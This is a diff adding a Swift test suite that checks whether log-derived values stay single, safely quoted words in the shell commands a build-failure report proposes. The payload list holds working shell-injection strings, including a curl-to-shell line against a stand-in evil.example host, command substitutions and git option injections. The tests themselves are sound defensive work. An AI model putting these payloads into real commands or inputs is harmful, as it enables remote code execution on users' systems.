@@ -1,0 +1,148 @@
+import Foundation
+import Testing
+
+@testable import StepTimeline
+
+/// Nothing that a log says may change the commands that a report proposes.
+@Suite struct CommandSafetyTests {
+  private static let payloads = [
+    "v1;curl${IFS}evil.example|sh", "$(touch /tmp/x)", "`touch /tmp/x`", "a'b", "a\"b", "a' 'b", "x\ny",
+    "x\\",
+    "--upload-pack=touch", "-oProxyCommand=touch", "a b", "a&&b", "a>b", "<a", "a|b", "*", "~root", "!x",
+    "#x",
+    "x/e;p", "a\u{202E}b", "a\u{1B}[31mb", "a\u{0}b", "a\r\nRUN x", "{x}", "${x}", "%x%", "a\tb", "é\u{200B}",
+    "''", "\"\"", "=cmd", "@x;y", "(x)", "[x]", "a{b,c}", "evil.example/$(id)", "1.0'; echo '", "x,y;z",
+    "\\$(id)",
+  ]
+
+  /// Texts that a reader may paste, with every name in them filled by the same value.
+  private static func commands(of rule: Rule, value: String?) -> [String] {
+    func values(_ text: String) -> [String: String] {
+      guard let value else { return [:] }
+      return Dictionary(uniqueKeysWithValues: TextTemplate.names(in: text).map { ($0, value) })
+    }
+    var commands: [String] = []
+    for fix in rule.fixes {
+      guard let snippet = fix.snippet else { continue }
+      let bases: [Bool] = [true, false]
+      for known in bases {
+        commands.append(fix.filled(baseIsKnown: known, with: values(snippet)).snippet ?? "")
+      }
+    }
+    commands += rule.verify.map { CommandTemplate.fill($0, values($0)) }
+    for text in [rule.title] + rule.causes + rule.fixes.map(\.text) where text.contains("`") {
+      let filled = CommandTemplate.fillSentence(text, values(text))
+      let spans = filled.split(separator: "`", omittingEmptySubsequences: false)
+      // A span that is only a name is quoted from the log, not proposed.
+      let template = text.split(separator: "`", omittingEmptySubsequences: false)
+      guard spans.count == template.count else {
+        commands.append("the spans of '\(text)' changed: \(filled)")
+        continue
+      }
+      for i in stride(from: 1, to: max(1, spans.count - 1), by: 2) where template[i].contains(" ") {
+        commands.append(String(spans[i]))
+      }
+    }
+    return commands
+  }
+
+  @Test func aHostileValueStaysOneWordInEveryCommandOfEveryRule() {
+    var count = 0
+    for rule in RuleCatalog.all {
+      let plain = Self.commands(of: rule, value: nil)
+      let shapes = plain.map { ShellWords($0).shape }
+      for payload in Self.payloads {
+        let hostile = Self.commands(of: rule, value: payload)
+        #expect(plain.count == hostile.count)
+        for (i, command) in hostile.enumerated() where i < plain.count && command != plain[i] {
+          count += 1
+          #expect(
+            shapes[i] == ShellWords(command).shape, "\(rule.id): \(plain[i]) → \(command)")
+        }
+      }
+    }
+    #expect(count > 200)
+  }
+
+  /// What a shell makes of the commands does not depend on what the log said.
+  @Test func theShellReadsHostileCommandsAsItReadsPlainOnes() throws {
+    let rules = RuleCatalog.all
+    func script(_ value: String?) -> [String] { rules.flatMap { Self.commands(of: $0, value: value) } }
+    let plain = script(nil)
+    // Lines for other files (JSON, go.mod) are no commands; the shell says which.
+    let accepted = try Self.accepted(plain, Array(plain.indices))
+    #expect(accepted.count > 100)
+    for payload in Self.payloads {
+      let hostile = script(payload)
+      let whole = accepted.map { hostile[$0] }.joined(separator: "\n")
+      #expect(try Self.shellAccepts(whole), "with \(payload)")
+    }
+  }
+
+  @Test(arguments: [
+    ("git push origin {revision|v1.2.3}", "v1;curl${IFS}evil.example|sh", "git push origin v1.2.3"),
+    ("git push origin {revision|v1.2.3}", "v1.9", "git push origin v1.9"),
+    ("git fetch {ref}", "--upload-pack=touch", "git fetch REF"),
+    ("RUN chmod +x {path}", "my files/a (1).sh", "RUN chmod +x 'my files/a (1).sh'"),
+    ("RUN chmod +x {path}", "it's", #"RUN chmod +x 'it'\''s'"#),
+    ("COPY {path} /app/", "my files/a.sh", "COPY PATH /app/"),
+    ("RUN sed -i '/{path}/d' x", "a b", "RUN sed -i '/PATH/d' x"),
+    ("RUN apt-get install {package}", "libc6-", "RUN apt-get install PACKAGE"),
+    ("RUN apt-get install -y \\\n    {package}", "g++", "RUN apt-get install -y \\\n    g++"),
+    ("FROM golang:{needed|1.25}", ">= 1.27", "FROM golang:1.25"),
+    ("echo ${package}", "x", "echo ${package}"),
+  ])
+  func aValueEntersInItsForm(template: String, value: String, expected: String) {
+    let names = TextTemplate.names(in: template)
+    let values = Dictionary(uniqueKeysWithValues: names.map { ($0, value) })
+    #expect(CommandTemplate.fill(template, values) == expected)
+  }
+
+  @Test func everyFormRefusesWhatAShellActsOn() {
+    for form in ValueForm.allCases {
+      for bad in [
+        "", "-x", "--x", "a\nb", "a`b`", "a$b", "a;b", "a|b", "a<b", "a\"b", "\u{7F}a", "a\u{202E}",
+      ] {
+        #expect(!form.admits(bad), "\(form): \(bad)")
+        #expect(form.shellWord(bad) == nil && form.bare(bad) == nil)
+      }
+    }
+  }
+
+  @Test(arguments: [
+    (ValueForm.package, ["libssl-dev", "g++", "@scope/name", "vendor/name", "Foo::Bar", "python3.12"]),
+    (.modulePath, ["example.com/team/app/v2", "golang.org/x/tools"]),
+    (.version, ["1.27", "v2.0.0-rc.1", "2:1.36+deb12u1", "v0.0.0-20240101000000-abcdef123456"]),
+    (.path, ["/app/x", "a b/c.csproj", "app/[slug]/page.tsx", "C:\\src\\a.cs", "größe.txt"]),
+    (.host, ["registry.example.com:5000", "10.0.0.1"]),
+    (.image, ["golang:1.27", "ghcr.io/team/app:1.2", "a@sha256:0123"]),
+    (.revision, ["main", "feature/x", "v1.2.3"]), (.variable, ["NPM_TOKEN"]), (.number, ["42"]),
+    (.url, ["https://example.com/a?b=c&d", "ssh://example.com/x.git"]),
+  ])
+  func aFormAdmitsWhatItIsFor(form: ValueForm, values: [String]) {
+    for value in values { #expect(form.admits(value), "\(form): \(value)") }
+  }
+
+  private static func accepted(_ commands: [String], _ indices: [Int]) throws -> [Int] {
+    // Halves until the shell accepts: few lines are no commands.
+    if indices.isEmpty { return [] }
+    if try shellAccepts(indices.map { commands[$0] }.joined(separator: "\n")) { return indices }
+    if indices.count == 1 { return [] }
+    let middle = indices.count / 2
+    return try accepted(commands, Array(indices[..<middle])) + accepted(commands, Array(indices[middle...]))
+  }
+
+  private static func shellAccepts(_ script: String) throws -> Bool {
+    let file = FileManager.default.temporaryDirectory.appendingPathComponent(
+      "commands-\(UUID().uuidString).sh")
+    try Data(script.utf8).write(to: file)
+    defer { try? FileManager.default.removeItem(at: file) }
+    let process = Process()
+    process.executableURL = URL(fileURLWithPath: "/bin/sh")
+    process.arguments = ["-n", file.path]
+    process.standardError = FileHandle.nullDevice
+    try process.run()
+    process.waitUntilExit()
+    return process.terminationStatus == 0
+  }
+}
